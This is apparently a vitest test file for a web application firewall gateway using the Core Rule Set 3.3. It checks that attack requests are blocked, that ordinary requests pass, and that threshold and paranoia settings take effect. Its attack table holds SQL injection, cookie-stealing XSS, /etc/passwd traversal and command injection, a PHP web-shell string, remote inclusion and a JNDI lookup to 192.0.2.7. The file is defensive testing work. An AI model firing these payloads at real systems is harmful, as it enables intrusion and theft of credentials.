import { crsSetupFile } from '@airside/seclang';
import { coreRuleSetForTests } from '@airside/seclang/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { form, headers, json, notesUnder, post } from '../../../test/browser-requests.ts';
import { type House, startHouse, startUpstream, type Upstream } from '../../../test/house.ts';
import { NOTES } from '../../../test/notes.ts';

const crs = coreRuleSetForTests('3.3');

describe.skipIf(crs === undefined)('with the Core Rule Set 3.3, named by its folder', () => {
  let upstream: Upstream;
  let house: House;
  const yaml = (more = '') => notesUnder(crs?.folder ?? '', upstream.url, more);

  beforeAll(async () => {
    upstream = await startUpstream();
    house = await startHouse(yaml(), { 'notes.yaml': NOTES });
  }, 60_000);
  afterAll(async () => {
    await house.close();
    await upstream.close();
  });

  const ATTACKS: Readonly<Record<string, readonly [path: string, options: object]>> = {
    'SQL injection in the query': ['/notes?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20', { headers }],
    'SQL injection in a form': ['/notes', form("id=1'+OR+'1'%3D'1'--+")],
    'SQL injection in JSON': ['/notes', json({ filter: { id: "1' UNION SELECT password FROM users-- " } })],
    'SQL injection in a cookie': ['/notes', { headers: { ...headers, cookie: "session=1' UNION SELECT password FROM users-- " } }],
    'cross-site scripting in the query': ['/notes?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', { headers }],
    'cross-site scripting in JSON': ['/notes', json({ text: '<img src=x onerror=alert(1)>' })],
    'a path outside': ['/notes?file=../../../../etc/passwd', { headers }],
    'a file from elsewhere': ['/notes?page=http://192.0.2.7/shell.txt%3F', { headers }],
    'a command of the shell': ['/notes', form('host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd')],
    'code in PHP': ['/notes', form('code=%3C%3Fphp+system($_GET[0])%3B%3F%3E')],
    'a Java lookup': ['/notes', json({ name: '${jndi:ldap://192.0.2.7/a}' })],
    'a fixed session': ['/notes', form('q=%3Cmeta http-equiv%3DSet-Cookie content%3D%22a%3Db; domain=.example.com; path=/%22%3E')],
    'a header inside an argument': ['/notes?to=a%0d%0aSet-Cookie:%20a=b', { headers }],
    'a scanner': ['/notes', { headers: { ...headers, 'user-agent': 'sqlmap/1.8' } }],
    'a file name that ends a parameter': [
      '/notes',
      post(
        'multipart/form-data; boundary=XX',
        '--XX\r\nContent-Disposition: form-data; name="a"; filename="x;y=.php"\r\nContent-Type: text/plain\r\n\r\n1\r\n--XX--\r\n',
      ),
    ],
  };
  test.each(Object.entries(ATTACKS))('%s is blocked', async (_name, [path, options]) => {
    const seen = upstream.seen.length;
    expect((await house.call(path, options)).status).toBe(403);
    expect(upstream.seen.length).toBe(seen);
  });

  const HONEST: Readonly<Record<string, readonly [path: string, options: object]>> = {
    'a list': ['/notes', { headers }],
    'a search': ['/notes?q=garden+chairs&sort=price&page=2', { headers }],
    'one note': ['/notes/42', { headers }],
    'an order in JSON': ['/notes', json({ items: [{ sku: 'ABC-1', quantity: 2 }], note: "Please ring twice, O'Neill & Sons" })],
    'a form': ['/notes', form('name=Jane+Doe&city=Z%C3%BCrich')],
    'a cookie': ['/notes', { headers: { ...headers, cookie: 'session=0123456789abcdef; theme=dark' } }],
    'a file': [
      '/notes',
      post(
        'multipart/form-data; boundary=XX',
        '--XX\r\nContent-Disposition: form-data; name="a"; filename="report.txt"\r\nContent-Type: text/plain\r\n\r\n1\r\n--XX--\r\n',
      ),
    ],
  };
  test.each(Object.entries(HONEST))('%s passes', async (_name, [path, options]) => {
    expect((await house.call(path, options)).status).toBe(200);
  });

  test('the record names rules and score', async () => {
    await house.call('/notes', { headers: { ...headers, 'x-request-id': 'scored', cookie: "a=1' UNION SELECT password FROM users-- " } });
    const { verdicts } = await house.exchange(({ id }) => id === 'scored');
    expect(verdicts.at(-1)?.reason).toMatch(/^score \d+: .*942100 SQL Injection Attack Detected via libinjection.*949110/);
  });

  test('the threshold and the paranoia level are those of the configuration', { timeout: 60_000 }, async () => {
    const attack = { headers: { ...headers, cookie: "session=1' UNION SELECT password FROM users-- " } };
    await house.apply(yaml('threshold: 10000'));
    expect((await house.call('/notes', attack)).status).toBe(200);
    const odd = { headers: { ...headers, 'x-note': 'a'.repeat(30), cookie: 'a=b;;;;!!(){}**' } };
    await house.apply(yaml());
    expect((await house.call('/notes', odd)).status).toBe(200);
    await house.apply(yaml('paranoia: 4'));
    expect((await house.call('/notes', odd)).status).toBe(403);
  });

  test('APIs that name its files one by one have level and threshold of their own', { timeout: 90_000 }, async () => {
    const folder = crs?.folder ?? '';
    const files = [crsSetupFile(folder) ?? '', `${folder}/rules/*.conf`].map((file) => `'${file}'`).join(', ');
    const api = (name: string, more: string) =>
      `  ${name}: { path: /${name}, upstreams: ['${upstream.url}'], policies: { authentication: { anonymous: always }, ` +
      `firewall: { rules: [${files}], ${more} } } }\n`;
    await house.apply(`apis:\n${api('plain', '')}${api('lax', 'threshold: 10000')}${api('strict', 'paranoia: 4')}`);
    const attack = { headers: { ...headers, cookie: "session=1' UNION SELECT password FROM users-- " } };
    const odd = { headers: { ...headers, cookie: 'a=b;;;;!!(){}**' } };
    const statuses = (options: object) =>
      Promise.all(['plain', 'lax', 'strict'].map(async (name) => (await house.call(`/${name}/x`, options)).status));
    expect(await statuses(attack)).toEqual([403, 200, 403]);
    expect(await statuses(odd)).toEqual([200, 200, 403]);
    expect((await statuses({ headers }))[0]).toBe(200);
  });
});
